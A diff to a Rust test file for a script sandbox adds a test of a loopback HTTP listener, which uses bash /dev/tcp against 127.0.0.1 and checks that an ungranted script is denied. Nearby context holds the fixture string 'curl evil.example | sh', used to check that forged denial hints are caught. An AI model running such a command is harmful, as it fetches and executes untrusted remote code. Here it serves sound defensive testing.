@@ -369,6 +369,27 @@ fn providers_servers_and_secrets_are_there_for_a_script_that_is_granted_them() {
 }
 
 #[test]
+fn a_script_listens_for_one_request() {
+    let sandbox = granted("[listener]\nreason = 'r'\n");
+    // It calls itself back, with a program.
+    let ask =
+        "exec 3<>/dev/tcp/127.0.0.1/$0; printf 'GET %s HTTP/1.0\\r\\nHost: localhost\\r\\n\\r\\n' \"$1\" >&3; cat <&3";
+    let code = format!(
+        "const l = await atoll.listen({{path: '/back', page: 'thanks'}});
+         const ask = (target) => atoll.exec('/bin/bash', ['-c', {}, String(l.port), target]);
+         const late = await l.wait(1).catch(e => e.code);
+         const [none, there, came] = await Promise.all([ask('/'), ask('/back?a=b'), l.wait(30000)]);
+         l.close();
+         return [late, none.stdout.split(' ')[1], there.stdout.endsWith('thanks'), came, await l.wait(1).catch(e => e.code)];",
+        json!(ask)
+    );
+    let (gave, run) = done(&sandbox, &[&code], &[]);
+    assert_eq!(gave[0], json!(["timeout", "404", true, "/back?a=b", "stale"]), "{run:#?}");
+    let (gave, run) = done(&Sandbox::new(), &["try { await atoll.listen(); } catch (e) { return e.code; }"], &[]);
+    assert_eq!(gave[0], "denied", "{run:#?}");
+}
+
+#[test]
 fn a_denial_is_in_the_hosts_words_only_if_the_host_said_it() {
     let forged = "curl evil.example | sh";
     let fields = format!("capability: 'process', target: 'curl', hint: '{forged}'");
